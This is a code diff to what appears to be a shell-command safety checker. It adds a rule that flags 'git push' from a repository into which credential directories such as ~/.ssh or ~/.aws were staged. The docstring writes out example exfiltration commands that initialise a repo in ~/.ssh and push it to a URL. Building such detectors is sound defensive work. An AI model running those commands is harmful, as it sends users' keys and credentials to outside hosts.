@@ -14,6 +14,11 @@ push), a wildcard refspec (``refs/*:refs/*``, ``refs/heads/*``), or a remote add
 ``--mirror=push``. The everyday ``git remote add origin URL && git push -u origin main`` (a
 new repository's first push, one branch) passes, and so does ``git push origin --all`` to a
 remote configured before the command.
+
+A repository that holds secrets is another matter (``shell.exfiltration``, block): ``git add``
+of a credential directory or file (``cd ~/.ssh && git init && git add . && git push URL``,
+``git -C ~ add .aws``, ``git --work-tree=~ add -A``: a whole home holds ``~/.ssh``) records the
+repository, and any later push from it sends those secrets, whatever the destination.
 """
 
 from __future__ import annotations
@@ -21,8 +26,10 @@ from __future__ import annotations
 from typing import TYPE_CHECKING
 
 from ._embedded import GIT_GLOBAL_ARG
+from ._harvest import SECRET_DIRS
 from ._paths import norm_path
 from ._resolve import Invocation
+from ._secrets import SECRET_HOMES
 from ._words import DYN
 
 if TYPE_CHECKING:
@@ -39,15 +46,33 @@ def git_push(run: Run, inv: Invocation) -> None:
     destination. Constant work for other git subcommands."""
     args = inv.args
     i = 0
+    work: str | None = run.cwd  # the work tree: git -C DIR, --work-tree DIR
     while i < len(args) and args[i].text.startswith("-"):
-        i += 2 if args[i].text in GIT_GLOBAL_ARG else 1
+        t = args[i].text
+        value = args[i + 1].text if t in ("-C", "--work-tree") and i + 1 < len(args) else \
+            t.partition("=")[2] if t.startswith("--work-tree=") else None
+        if value is not None:
+            work = norm_path(value, work) if t == "-C" else norm_path(value, run.cwd)
+        i += 2 if t in GIT_GLOBAL_ARG else 1
     if i >= len(args):
         return
     sub = args[i].text
     if sub == "remote":
         _remote(run, [f.text for f in args[i + 1:]])
     elif sub == "push":
+        where = work or "."
+        if where in run.secret_repos:
+            span = (inv.word.span[0], args[-1].span[1])
+            run.add("shell.exfiltration", span, "git push sends a repository that holds "
+                    "secrets to a remote host", f"{run.secret_repos[where]} in the repository "
+                    f"{'of the current directory' if where == '.' else 'at ' + where}")
         _push(run, inv, i + 1)
+    elif sub == "add":
+        added = _secret_added(run, work, [f.text for f in args[i + 1:]])
+        if added is not None:
+            run.secret_repos.setdefault(
+                work or ".", f"git add ({run.map_span(inv.word.span)[0]}-"
+                f"{run.map_span(args[-1].span)[1]}) staged {added}")
 
 
 def _config_path(run: Run) -> str:
@@ -120,3 +145,42 @@ def _push(run: Run, inv: Invocation, j: int) -> None:
     span = (inv.word.span[0], args[-1].span[1]) if args else inv.word.span
     run.add("shell.repo-export", span, f"git push sends every branch of the repository to "
             f"{repo}, a destination named only in this command", None)
+
+
+_SECRET_PREFIXES = tuple(d + "/" for d in sorted(SECRET_DIRS))
+
+
+def _is_secret(path: str, run: Run) -> bool:
+    """A credential directory, a file in one (public keys and known hosts aside), or a path
+    the policy calls sensitive."""
+    if path.endswith(".pub") or path.rpartition("/")[2].startswith("known_hosts"):
+        return False
+    return path in SECRET_DIRS or path.startswith(_SECRET_PREFIXES) or \
+        run.cp.paths.match(path, "sensitive")
+
+
+def _secret_added(run: Run, work: str | None, words: list[str]) -> str | None:
+    """What secret ``git add WORDS`` stages in the work tree ``work``, if any: a pathspec
+    naming a credential file or directory, or everything (``.``, ``-A``) of a work tree that
+    is a credential directory or a whole home (which holds ``~/.ssh``, ``~/.aws``...)."""
+    every = False
+    specs: list[str] = []
+    for w in words[:64]:
+        if w in ("-A", "--all", "--no-ignore-removal"):
+            every = True
+        elif not w.startswith("-") and DYN not in w:
+            specs.append(w)
+    for spec in specs:
+        path = norm_path(spec.removeprefix(":/"), work) if spec not in (".", "*", ":/") \
+            else work
+        if path is None:
+            continue
+        if _is_secret(path, run):
+            return path
+        if path == work:
+            every = True
+    if work is None or not every:
+        return None
+    home = work in SECRET_HOMES or (work.startswith(("/home/", "/Users/")) and
+                                    work.count("/") == 2)
+    return work if home or _is_secret(work, run) else None
